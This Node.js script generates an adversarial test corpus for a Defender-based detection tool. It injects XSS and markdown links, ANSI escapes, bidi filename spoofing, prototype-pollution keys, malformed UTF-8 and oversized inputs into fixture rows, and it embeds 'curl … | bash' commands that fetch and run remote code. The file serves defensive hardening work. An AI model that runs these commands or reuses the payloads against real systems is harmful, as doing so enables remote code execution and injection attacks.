#!/usr/bin/env node
/**
 * Writes the adversarial corpus of test/corpus/ (see README.md) from four real Defender fixture rows.
 * Deterministic: running it again gives the same bytes. Run from the repository root:
 *   node test/corpus/generate.mjs
 * The many-megabyte line is not written here: test/hardening/corpus.test.ts makes it at test time.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const detectors = join(here, '../../packages/detectors-defender/src/detectors');
const first = (path) => JSON.parse(readFileSync(join(detectors, path), 'utf8')).records;

const [proc] = first('suspicious-command-line/fixtures/fires.curl-pipe-shell.json');
const [script] = first('suspicious-script-content/fixtures/fires.base64-to-shell.json');
const [info] = first('anomalous-logged-on-user/fixtures/fires.control-characters-windows.json');
const adapters = first('duplicate-adapter-address/fixtures/fires.on-prem-two-eth-same-mac.json');

let reportId = 9000;
/** A copy of `record` with properties changed; a fresh ReportId unless one is given. */
function variant(record, changes) {
  const properties = { ...record.properties, ReportId: reportId++, ...changes };
  return { ...record, properties };
}
/** The base64-to-shell script row with `text` appended to its ScriptContent. */
function scriptWith(text, changes = {}) {
  const af = JSON.parse(script.properties.AdditionalFields);
  return variant(script, { AdditionalFields: JSON.stringify({ ...af, ScriptContent: `${af.ScriptContent}${text}\n` }), ...changes });
}
/** The DeviceInfo row with a LoggedOnUsers user named `name`. */
function userNamed(name, changes = {}) {
  return variant(info, { LoggedOnUsers: JSON.stringify([{ UserName: name, DomainName: 'CONTOSO', Sid: 'S-1-5-21-1-2-3-1001' }]), ...changes });
}
/** The two same-MAC adapter rows with adapter names `a` and `b` (the DeviceInfo row first). */
function adaptersNamed(a, b) {
  const [di, n1, n2] = adapters;
  return [variant(di, {}), variant(n1, { NetworkAdapterName: a }), variant(n2, { NetworkAdapterName: b })];
}
/** Every attacker column of the process row set to `text` (the curl | bash prefix kept so it alerts). */
function everywhere(text) {
  return [
    variant(proc, {
      ProcessCommandLine: `${proc.properties.ProcessCommandLine} ${text}`,
      FileName: text,
      FolderPath: `/tmp/${text}`,
      AccountName: text,
      InitiatingProcessCommandLine: text,
      DeviceName: `host-${text}`,
    }),
    scriptWith(text, { FileName: text, FolderPath: `/tmp/${text}` }),
    userNamed(text, { DeviceName: `info-${text}` }),
    ...adaptersNamed(text, `${text}-2`),
  ];
}
const ndjson = (rows) => `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`;
const write = (name, text) => {
  writeFileSync(join(here, name), text);
  console.log(`${name}: ${Buffer.byteLength(text)} bytes`);
};

const markdown = [
  '[click](https://evil.example/login)',
  '![px](https://evil.example/p.png)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<!-- hidden -->',
  '<https://evil.example>',
  'see https://evil.example and www.evil.example and admin@evil.example',
  '[ref]\n\n[ref]: https://evil.example',
  'text[^1]\n\n[^1]: footnote',
  'innocent\n# Injected heading',
  '*em* **strong** ~~strike~~ $math$',
  '&lt;b&gt; &#x3C;i&#x3E;',
];
write('markdown-html-links.ndjson', ndjson(markdown.flatMap(everywhere)));

const tables = ['`', '```', '````js\nalert(1)\n````', '`a``b```c', 'a | b | c', 'a\\|b\\\\|c', 'cell\n| x | y |\n| --- | --- |', 'line1\nline2\r\nline3\rline4', 'a\u2028b\u2029c'];
write('backticks-pipes-newlines.ndjson', ndjson(tables.flatMap(everywhere)));

const ansi = ['\u001b[31mRED\u001b[0m', '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', '\u001b[2J\u001b[H', 'csi\u009b31m', 'bell\u0007', '\u001b]0;pwned\u001b\\'];
write('ansi-escapes.ndjson', ndjson(ansi.flatMap(everywhere)));

const bidi = ['invoice\u202egpj.exe', 'a\u2066b\u2069c\u200fd\u061c', 'ad\u200bmin\u200c\u200d\u2060', '\ufeffroot\u00ad', 'a\u{e0041}\u{e0042}b', '\u3164\u3164', 'x\ud800y\udfffz'];
write('bidi-zero-width.ndjson', ndjson(bidi.flatMap(everywhere)));

// NUL as a JSON escape (valid JSON, must be shown, not passed on) and as a raw byte (invalid JSON: rejected).
const nulRows = ndjson(['nul\u0000byte', '\u0000', 'a\u0000\u0001\u007fb'].flatMap(everywhere));
const rawNul = JSON.stringify(variant(proc, { ProcessCommandLine: 'RAWNUL' })).replace('RAWNUL', 'raw\u0000nul');
write('nul-bytes.ndjson', `${nulRows}${rawNul}\n`);

// Invalid UTF-8: a lone continuation byte, a truncated sequence, an overlong '/', an encoded surrogate,
// 0xFF — inside JSON strings (decoded as U+FFFD) and outside them (the line is not JSON: rejected).
{
  const good = Buffer.from(`${JSON.stringify(variant(proc, {}))}\n`);
  const lines = [good];
  for (const bad of [[0x80], [0xc3], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xff, 0xfe], [0xf4, 0x90, 0x80, 0x80]]) {
    const text = JSON.stringify(variant(proc, { ProcessCommandLine: `bash -c "curl -fsSL http://198.51.100.23/x.sh | bash" BAD`, DeviceName: 'utf8-host' }));
    const [head, tail] = text.split('BAD');
    lines.push(Buffer.concat([Buffer.from(head), Buffer.from(bad), Buffer.from(tail), Buffer.from('\n')]));
  }
  lines.push(Buffer.concat([Buffer.from([0xff, 0xc3, 0x28]), Buffer.from('{"Timestamp":"2025-11-14T00:00:00Z"}\n')]));
  writeFileSync(join(here, 'invalid-utf8.ndjson'), Buffer.concat(lines));
  console.log('invalid-utf8.ndjson: raw bytes');
}

// One command line of 1 MiB (kept: under the default 16 MiB line limit).
{
  const long = `bash -c "curl -fsSL http://198.51.100.23/x.sh | bash" ${'A'.repeat(1 << 20)}`;
  write('megabyte-command-line.ndjson', ndjson([variant(proc, { ProcessCommandLine: long }), scriptWith(` #${'\\'.repeat(1 << 16)}`)]));
}

// AdditionalFields nested 100,000 levels deep: as JSON text (the usual form) and as an object.
{
  const depth = 100_000;
  const text = `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const objectText = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const asText = JSON.stringify(variant(proc, { AdditionalFields: text }));
  const asObject = JSON.stringify(variant(proc, { AdditionalFields: 'OBJ' })).replace('"OBJ"', objectText);
  const scriptDeep = JSON.stringify(variant(script, { AdditionalFields: `{"ScriptContent":"curl http://x | sh","deep":${text}}` }));
  write('deep-nesting.ndjson', `${asText}\n${asObject}\n${scriptDeep}\n`);
}

// __proto__ / constructor / prototype keys in envelopes, rows and AdditionalFields.
{
  const polluting = { polluted: 'yes', isAdmin: true, toString: 'x' };
  const lines = [
    `{"__proto__":${JSON.stringify(polluting)},${JSON.stringify(variant(proc, {})).slice(1)}`,
    JSON.stringify(variant(proc, {})).replace('"properties":{', `"properties":{"__proto__":${JSON.stringify(polluting)},"constructor":{"prototype":${JSON.stringify(polluting)}},"prototype":${JSON.stringify(polluting)},`),
    JSON.stringify(variant(proc, { AdditionalFields: JSON.stringify({ __proto__: null, constructor: { prototype: polluting } }).replace('{', `{"__proto__":${JSON.stringify(polluting)},`) })),
    JSON.stringify(scriptWith('x', {})).replace('"properties":{', `"properties":{"__proto__":{"DeviceId":"spoofed","polluted":"yes"},`),
    `{"__proto__":{"category":"AdvancedHunting-DeviceProcessEvents"},"properties":${JSON.stringify(proc.properties)}}`,
    JSON.stringify(variant(proc, { AdditionalFields: '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"ReportId":123456789012345678901}' })),
  ];
  write('prototype-keys.ndjson', `${lines.join('\n')}\n`);
  const csvHeader = Object.keys(proc.properties).filter((k) => k !== 'AdditionalFields');
  const cell = (v) => `"${String(v).replace(/"/g, '""')}"`;
  const csv = [
    ['__proto__', 'constructor', 'prototype', ...csvHeader].join(','),
    ['polluted', 'polluted', 'polluted', ...csvHeader.map((k) => cell(proc.properties[k]))].join(','),
  ];
  write('prototype-keys.csv', `${csv.join('\r\n')}\r\n`);
}

// Integers beyond 2^53 in every column (and inside AdditionalFields).
{
  const big = '9223372036854775807';
  const huge = '123456789012345678901234567890';
  const withBig = (record, value) => {
    const props = {};
    for (const [k, v] of Object.entries(record.properties)) props[k] = typeof v === 'number' ? `@@${value}@@` : v;
    props.ReportId = `@@${value}@@`;
    props.AdditionalFields = `{"InitiatingProcessPosixProcessGroupId":${value},"n":[${value},-${value}]}`;
    return JSON.stringify({ ...record, properties: props }).replace(/"@@(\d+)@@"/g, '$1');
  };
  const lines = [withBig(proc, big), withBig(proc, huge), withBig(script, '18446744073709551615'), withBig(info, '639199803770463703')];
  // Every column, strings included, replaced by a big integer: rows that then fail (Timestamp) are rejected, not crashed.
  const all = {};
  for (const k of Object.keys(proc.properties)) all[k] = `@@${big}@@`;
  lines.push(JSON.stringify({ ...proc, properties: all }).replace(/"@@(\d+)@@"/g, '$1'));
  write('big-numbers.ndjson', `${lines.join('\n')}\n`);
}

// The same rows repeated: counted every time, alerted once.
{
  const one = variant(proc, { ReportId: 639199803770463703n.toString() });
  const line = JSON.stringify(one).replace('"639199803770463703"', '639199803770463703');
  const sameIdOtherTime = JSON.stringify({ ...one, properties: { ...one.properties, Timestamp: '2025-11-14T03:00:00Z' } }).replace('"639199803770463703"', '639199803770463703');
  write('duplicates.ndjson', `${[line, line, line, line, line, sameIdOtherTime].join('\n')}\n`);
}
